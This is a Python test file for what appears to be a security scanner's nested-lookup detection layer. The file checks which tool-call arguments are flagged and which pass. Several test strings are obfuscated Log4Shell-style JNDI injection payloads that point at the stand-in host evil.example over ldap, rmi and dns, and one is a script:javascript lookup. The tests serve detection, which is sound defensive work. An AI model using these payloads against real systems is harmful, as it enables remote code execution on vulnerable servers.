"""Lookups inside lookups."""

from __future__ import annotations

import pytest

from vanguard.layers.nested import LONGEST, judge, resolve
from vanguard.model.context import Context, Policy
from vanguard.model.finding import Finding
from vanguard.model.message import Direction, Form, Fragment, Kind, Message, Part, Reading
from vanguard.policy.load import profile
from vanguard.rules.index import Index

CONTEXT = Context(Policy(profile("balanced"), Index((), ""), ""))


def found(text: str) -> list[Finding]:
    """What the layer finds in one argument."""
    message = Message(Direction.TO_SERVER, Kind.REQUEST, b"{}", {}, 1, "tools/call")
    fragment = Fragment(("params", "arguments", "q"), Part.ARGUMENT, False, (Form(text),))
    return list(judge(Reading(message, (fragment,)), CONTEXT).findings)


@pytest.mark.parametrize(
    "text",
    [
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/z}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
        "${${lower:${lower:jndi}}:${lower:rmi}://evil.example/a}",
        "${${::-${::-j}}ndi:dns://evil.example/a}",
        "${jnd${upper:\u0131}:ldap://evil.example/x}",
        "x ${env:A:-${env:B:-$}{jndi:ldap://evil.example}} ${user}",
        "${${env:A:-s}cript:javascript:x}",
    ],
)
def test_a_hidden_lookup_is_found_however_deep_it_is(text: str) -> None:
    (finding,) = found(text)
    assert finding.rule == "code-nested-lookup"


@pytest.mark.parametrize(
    "text",
    [
        "${env:HOME}/bin:${PATH}",
        "${date:yyyy-MM-dd} ${ctx:requestId} ${sys:user.name:-nobody}",
        "${lower:${env:NAME}} and ${upper:x}",
        "`${a.map(x => `${x}`)}`",
        "The ${name} and the JNDI name java:comp/env/jdbc/Shop of ${app}",
        "${${prefix}.port} ${a:${b:c}}",
    ],
)
def test_ordinary_lookups_pass(text: str) -> None:
    assert found(text) == []


def test_inner_lookups_become_what_they_stand_for() -> None:
    assert resolve("${a${lower:B}${x:-c}${env:NO}}") == "${abc}"


def test_only_short_values_are_judged() -> None:
    assert found("${${lower:j}ndi:ldap://evil.example/a}" + "x" * LONGEST) == []
